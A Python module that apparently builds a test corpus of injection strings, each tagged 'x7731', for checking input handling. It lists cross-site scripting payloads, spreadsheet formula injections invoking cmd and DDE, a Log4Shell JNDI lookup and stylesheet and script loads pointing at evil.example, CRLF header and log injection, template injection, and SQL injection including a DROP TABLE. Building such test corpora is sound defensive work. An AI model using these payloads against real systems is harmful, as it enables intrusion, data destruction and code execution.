"""Strings people send to break things: markup, formulas, headers, log lines, templates. Each carries `MARK`."""

MARK = "x7731"

_MARKUP = (
    f"<script>{MARK}()</script>", f"<SCRIPT SRC=//evil.example/{MARK}.js></SCRIPT>", f"<img src=x onerror={MARK}()>",
    f"<svg onload={MARK}()>", f"<svg><script>{MARK}()</script>", f"<svg/onload={MARK}()//", f"<body onload={MARK}()>",
    f"<iframe src=javascript:{MARK}()>", f"<a href=javascript:{MARK}()>x</a>", f"<a href='java\tscript:{MARK}()'>x</a>",
    f"<details open ontoggle={MARK}()>", f"<input autofocus onfocus={MARK}()>", f"<video><source onerror={MARK}()>",
    f"<math><mtext></math><img src onerror={MARK}()>", f"<style>@import'//evil.example/{MARK}'</style>",
    f"<link rel=stylesheet href=//evil.example/{MARK}>", f"<meta http-equiv=refresh content=0;url=//{MARK}>",
    f"<base href=//evil.example/{MARK}/>", f"<form action=//evil.example/{MARK}><button>x", f"<object data={MARK}>",
    f"<template><script>{MARK}()</script></template>", f"<noscript><p title='</noscript><img src onerror={MARK}()>'>",
    f"<div style=background:url(//{MARK})>", f"<x-{MARK} onclick=1>", f"<div x-data x-init={MARK}()>",
    f"<div @click={MARK}()>", f"<div :class={MARK}()>", f"<div hx-get=/admin/ hx-trigger=load>{MARK}", f"<!--{MARK}",
    f"<![CDATA[{MARK}]]>", f"&lt;script&gt;{MARK}()&lt;/script&gt;", f"&#60;script&#62;{MARK}()&#60;/script&#62;",
    f"<scr<script>ipt>{MARK}()</script>", f"＜script＞{MARK}()＜/script＞", f"<\u200bscript>{MARK}()</script>",
)  # fmt: skip
_BREAKOUTS = ("", '">', "'>", "</textarea>", "</title>", "`-->", '" autofocus onfocus="')
_FORMULAS = (
    f"cmd|'/c calc'!{MARK}", f"HYPERLINK(\"//evil.example/{MARK}\",\"x\")", f"1+1+cmd|{MARK}", f"SUM(1,1)*{MARK}",
    f"IMPORTXML(\"//evil.example/{MARK}\",\"//a\")", f"DDE(\"cmd\";\"/c {MARK}\")",
)  # fmt: skip
_FORMULA_STARTS = ("=", "+", "-", "@", "\t=", " =", "|=", "；=", "＝", '"=')
_LINE_ENDS = ("\r\n", "\n", "\r", "%0d%0a", "\\r\\n", "\u2028", "\u0085", "嘊嘍")
_HEADERS = (f"Set-Cookie: {MARK}=1", f"Location: //evil.example/{MARK}", f"X-Request-ID: {MARK}", f"\r\n<html>{MARK}")
_LOG_LINES = (
    f'{{"event": "request", "status": 200, "user_id": "{MARK}"}}', f"WARNING root {MARK} signed in",
    f"\x1b[2K\x1b[1A{MARK}", f"\x1b]0;{MARK}\x07", f"%s%n%d {MARK}", f"%({MARK})s {{0}} {{{MARK}}}",
    f"${{jndi:ldap://evil.example/{MARK}}}", f"\x00{MARK}",
)  # fmt: skip
_TEMPLATES = (
    f"{{{{ 7|add:7 }}}}{MARK}", f"{{% debug %}}{MARK}", f"{{% load static %}}{MARK}", f"${{7*7}}{MARK}",
    f"#{{7*7}}{MARK}", f"<%= 7*7 %>{MARK}", f"{{{{constructor.constructor('{MARK}()')()}}}}", f"[[{MARK}]]",
)  # fmt: skip
_STATEMENTS = (
    f"'; DROP TABLE support_ticket; -- {MARK}", f"' OR '1'='1 {MARK}", f"%' OR {MARK} LIKE '%", f"\\' {MARK}",
    f"$${MARK}$$", f"{MARK}\\", f"_%{MARK}%_", f"1; SELECT pg_sleep(9) -- {MARK}",
)  # fmt: skip
_DIRECTIONS = tuple(f"{sign}{MARK}{sign}" for sign in "\u202e\u202d\u2066\u2067\u200f\u200b\ufeff\u2069")

STRINGS = tuple(
    dict.fromkeys(
        [
            *(f"{breakout}{markup}" for markup in _MARKUP for breakout in _BREAKOUTS),
            *(f"{start}{formula}" for formula in _FORMULAS for start in _FORMULA_STARTS),
            *(f"x{end}{header}" for header in _HEADERS for end in _LINE_ENDS),
            *(f"x{end}{line}" for line in _LOG_LINES for end in _LINE_ENDS),
            *_TEMPLATES,
            *_STATEMENTS,
            *_DIRECTIONS,
        ]
    )
)
